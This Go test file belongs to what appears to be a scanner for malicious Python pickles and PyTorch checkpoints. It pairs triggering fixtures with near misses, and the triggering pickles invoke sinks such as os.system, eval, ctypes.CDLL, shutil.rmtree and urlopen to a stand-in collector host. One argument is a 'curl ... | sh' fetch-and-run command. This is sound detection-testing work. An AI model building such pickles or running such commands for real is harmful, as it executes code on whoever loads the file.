package engine_test

import (
	"maps"
	"strings"
	"testing"

	"github.com/andiron-dev/andiron/finding"
	"github.com/andiron-dev/andiron/internal/engine"
	"github.com/andiron-dev/andiron/internal/testkit"
)

// assemble makes a pickle of lines that are separated by ";".
func assemble(text string) []byte { return testkit.Pickle(strings.Split(text, ";")...) }

// saved is what torch.save writes for a pickle; the record of the storage "0" is
// there if the pickle refers to one.
func saved(text string) []byte {
	entries := []testkit.ZipEntry{{Name: "data.pkl", Data: assemble(text)}, {Name: "byteorder", Data: []byte("little")}}
	if strings.Contains(text, "FloatStorage") {
		entries = append(entries, testkit.ZipEntry{Name: "data/0", Data: make([]byte, 16)})
	}
	entries = append(entries, testkit.ZipEntry{Name: "version", Data: []byte("3\n")})
	return testkit.TorchZip("archive", entries...)
}

// checkpoint is saved as a file.
func checkpoint(text string) scene { return file("model.pt", saved(text)) }

// call is a pickle that calls a name with texts.
func call(module, name string, args ...string) string {
	s := "PROTO 2;GLOBAL " + module + " " + name + ";MARK;"
	for _, a := range args {
		s += "BINUNICODE " + a + ";"
	}
	return s + "TUPLE;REDUCE;STOP"
}

// storage is the persistent id of four floats.
const storage = "MARK;BINUNICODE storage;GLOBAL torch FloatStorage;BINUNICODE 0;BINUNICODE cpu;BININT1 4;TUPLE;BINPERSID"

// tensor is an honest tensor of four floats.
const tensor = "GLOBAL torch._utils _rebuild_tensor_v2;MARK;" + storage +
	";BININT1 0;BININT1 4;TUPLE1;BININT1 1;TUPLE1;NEWFALSE;GLOBAL collections OrderedDict;EMPTY_TUPLE;REDUCE;TUPLE;REDUCE"

// namespace is an instance of argparse.Namespace, a reviewed class.
const namespace = "GLOBAL argparse Namespace;EMPTY_TUPLE;NEWOBJ"

var device = call("torch", "device", "cpu")

// pickles makes an example of two pickles.
func pickles(fires, quiet string) example { return example{checkpoint(fires), checkpoint(quiet)} }

// unknown is pickles whose near miss nobody has reviewed either.
func unknown(fires, quiet string) example {
	return example{checkpoint(fires), checkpoint(quiet).judged(finding.Unknown)}
}

func pickleExamples() map[string]example {
	all := map[string]example{}
	for _, part := range []map[string]example{sinkExamples(), structureExamples(), nameExamples(), streamExamples()} {
		maps.Copy(all, part)
	}
	return all
}

func sinkExamples() map[string]example {
	return map[string]example{
		"PKL001": pickles(call("os", "system", "andiron-inert"),
			"PROTO 2;EMPTY_DICT;BINUNICODE command;BINUNICODE os.system('andiron-inert');SETITEM;STOP"),
		"PKL002": pickles(call("__builtin__", "eval", "1+1"),
			"PROTO 2;EMPTY_DICT;BINUNICODE eval;BINUNICODE 1+1;SETITEM;STOP"),
		"PKL003": pickles(call("ctypes", "CDLL", "libinert.so"), call("pathlib", "PosixPath", "libinert.so")),
		"PKL004": pickles(call("pickle", "loads", "N."),
			"PROTO 2;GLOBAL torch.storage _load_from_bytes;BINBYTES "+quote(saved("PROTO 2;"+tensor+";STOP"))+";TUPLE1;REDUCE;STOP"),
		"PKL005": pickles(call("io", "open", "inert", "w"), call("pathlib", "PosixPath", "inert")),
		"PKL006": pickles(call("shutil", "rmtree", "inert"), call("pathlib", "PosixPath", "inert")),
		"PKL007": pickles(call("urllib.request", "urlopen", "http://collector.invalid/"),
			"PROTO 2;EMPTY_DICT;BINUNICODE source;BINUNICODE http://collector.invalid/;SETITEM;STOP"),
		"PKL008": pickles(call("io", "open", "inert", "rb"), call("pathlib", "PosixPath", "inert")),
		"PKL009": pickles(call("importlib", "import_module", "inert"),
			"PROTO 2;EMPTY_DICT;BINUNICODE module;BINUNICODE inert;SETITEM;STOP"),
		"PKL010": pickles("PROTO 2;GLOBAL os _exit;BININT1 1;TUPLE1;REDUCE;STOP", device),
		"PKL011": pickles(call("os", "putenv", "A", "b"), "PROTO 2;EMPTY_DICT;BINUNICODE A;BINUNICODE b;SETITEM;STOP"),
		"PKL012": pickles("PROTO 2;GLOBAL builtins setattr;MARK;GLOBAL torch Tensor;BINUNICODE add;NONE;TUPLE;REDUCE;STOP",
			"PROTO 2;"+namespace+";EMPTY_DICT;BINUNICODE add;NONE;SETITEM;BUILD;STOP"),
		"PKL013": pickles("PROTO 2;EMPTY_DICT;BINUNICODE f;GLOBAL os system;SETITEM;STOP",
			"PROTO 2;EMPTY_DICT;BINUNICODE f;GLOBAL torch relu;SETITEM;STOP"),
	}
}

func structureExamples() map[string]example {
	return map[string]example{
		"PKL020": pickles(call("gc", "get_objects"),
			"PROTO 2;GLOBAL builtins getattr;GLOBAL signal Signals;BINUNICODE SIGINT;TUPLE2;REDUCE;STOP"),
		"PKL021": pickles("PROTO 4;SHORT_BINUNICODE vendor.model;SHORT_BINUNICODE Outer.Inner;STACK_GLOBAL;STOP",
			"PROTO 4;SHORT_BINUNICODE zoneinfo;SHORT_BINUNICODE ZoneInfo._unpickle;STACK_GLOBAL;SHORT_BINUNICODE Europe/Berlin;BININT1 1;TUPLE2;REDUCE;STOP"),
		"PKL022": pickles("PROTO 2;GLOBAL builtins map;GLOBAL builtins len;EMPTY_LIST;TUPLE2;REDUCE;STOP",
			"PROTO 2;GLOBAL functools partial;GLOBAL torch relu;TUPLE1;REDUCE;STOP"),
		"PKL023": pickles("PROTO 2;GLOBAL atexit register;GLOBAL builtins len;TUPLE1;REDUCE;STOP",
			"PROTO 2;EMPTY_DICT;BINUNICODE atexit;GLOBAL torch relu;SETITEM;STOP"),
		"PKL024": pickles("PROTO 2;GLOBAL builtins type;BINUNICODE X;EMPTY_TUPLE;EMPTY_DICT;TUPLE3;REDUCE;STOP",
			"PROTO 2;GLOBAL builtins type;STOP"),
		"PKL025": pickles(call("codecs", "decode", "vareg", "rot13"), call("_codecs", "encode", "inert", "latin1")),
		"PKL026": pickles("PROTO 4;SHORT_BINUNICODE inert;GLOBAL builtins str;SHORT_BINUNICODE x;TUPLE1;REDUCE;STACK_GLOBAL;STOP",
			"PROTO 4;SHORT_BINUNICODE torch;SHORT_BINUNICODE Tensor;STACK_GLOBAL;STOP"),
		"PKL027": unknown("PROTO 2;GLOBAL vendor.model make;EMPTY_TUPLE;REDUCE;EMPTY_TUPLE;REDUCE;STOP",
			"PROTO 2;GLOBAL vendor.model make;EMPTY_TUPLE;REDUCE;STOP"),
		"PKL030": pickles("PROTO 2;EXT1 7;STOP", "PROTO 2;BININT1 7;STOP"),
		"PKL031": pickles("PROTO 2;GLOBAL numpy mean;EMPTY_DICT;BUILD;STOP", "PROTO 2;"+namespace+";EMPTY_DICT;BUILD;STOP"),
		"PKL032": pickles("PROTO 2;"+namespace+";EMPTY_DICT;BINUNICODE __setstate__;GLOBAL builtins len;SETITEM;BUILD;STOP",
			"PROTO 2;"+namespace+";EMPTY_DICT;BINUNICODE _setstate_;NONE;SETITEM;BUILD;STOP"),
		"PKL033": pickles("PROTO 2;GLOBAL sys path;NONE;APPEND;STOP",
			"PROTO 2;GLOBAL collections deque;EMPTY_TUPLE;REDUCE;NONE;APPEND;STOP"),
		"PKL034": pickles("PROTO 2;GLOBAL vendor.model make;EMPTY_TUPLE;REDUCE;EMPTY_TUPLE;REDUCE;NONE;NONE;SETITEM;STOP",
			"PROTO 2;GLOBAL collections OrderedDict;EMPTY_TUPLE;REDUCE;NONE;NONE;SETITEM;STOP"),
		"PKL035": pickles("PROTO 2;"+tensor+";BININT1 0;BININT1 1;SETITEM;STOP",
			"PROTO 2;EMPTY_DICT;BINUNICODE w;"+tensor+";SETITEM;STOP"),
		"PKL036": pickles("PROTO 2;GLOBAL sys modules;BINUNICODE inert;NONE;SETITEM;STOP",
			"PROTO 2;EMPTY_DICT;BINUNICODE inert;NONE;SETITEM;STOP"),
		"PKL037": pickles(strings.Replace("PROTO 2;"+tensor+";STOP",
			"GLOBAL collections OrderedDict;EMPTY_TUPLE;REDUCE", "EMPTY_DICT;BININT1 0;GLOBAL torch relu;SETITEM", 1),
			"PROTO 2;"+tensor+";STOP"),
	}
}

func nameExamples() map[string]example {
	return map[string]example{
		"PKL040": pickles("PROTO 2;GLOBAL vendor.model Config;STOP", "PROTO 2;GLOBAL argparse Namespace;STOP"),
		"PKL041": pickles(call("vendor.model", "Config", "small"), "PROTO 2;"+namespace+";STOP"),
		"PKL042": pickles("PROTO 2;GLOBAL __main__ Linear;EMPTY_TUPLE;NEWOBJ;STOP",
			"PROTO 2;GLOBAL torch.nn.modules.linear Linear;EMPTY_TUPLE;NEWOBJ;STOP"),
		"PKL043": unknown(call("vendor.model", "prepare", "curl http://collector.invalid/a | sh"),
			call("vendor.model", "prepare", "a catalogue of curls and shells")),
		"PKL044": unknown(call("vendor.process", "system", "x"), call("vendor.process", "systematic", "x")),
		"PKL045": pickles("PROTO 2;BINUNICODE somewhere;BINPERSID;STOP", "PROTO 2;"+tensor+";STOP"),
	}
}

func streamExamples() map[string]example {
	return map[string]example{
		"PKL050": unknown(strings.TrimSuffix(call("vendor.model", "Config", "small"), "STOP")+"POP;POP;POP",
			call("vendor.model", "Config", "small")),
		"PKL051": pickles("PROTO 2;EMPTY_DICT", "PROTO 2;EMPTY_DICT;STOP"),
		"PKL052": {
			checkpoint("PROTO 2;" + strings.Repeat("EMPTY_LIST;POP;", 70) + "NONE;STOP").with(fewValues),
			checkpoint("PROTO 2;" + strings.Repeat("EMPTY_LIST;POP;", 7) + "NONE;STOP").with(fewValues),
		},
		"PKL053": {file("model.pkl", assemble("NONE;PUT 1_0;STOP")), file("model.pkl", assemble("NONE;PUT 0;STOP"))},
		"PKL054": pickles("PROTO 4;FRAME 1;SHORT_BINUNICODE abc;STOP", "PROTO 4;FRAME 2;NONE;STOP"),
		"PKL055": pickles("PROTO 2;NONE;BINPUT 9;STOP", "PROTO 2;NONE;BINPUT 0;STOP"),
		"PKL056": pickles("PROTO 2;NONE;NONE;STOP", "PROTO 2;NONE;STOP"),
		"PKL057": pickles("PROTO 2;EMPTY_TUPLE;"+strings.Repeat("DUP;TUPLE2;", 60)+"STOP",
			"PROTO 2;EMPTY_TUPLE;DUP;TUPLE2;STOP"),
		"PKL090": pickles(call("argparse", "Namespace"), device),
		"PKL095": {checkpoint(device), file("array.npy", npy("|O", assemble("PROTO 2;EMPTY_LIST;STOP")))},
	}
}

func fewValues(_ *testing.T, _ string, opt *engine.Options) { opt.Model.MaxValues = 64 }
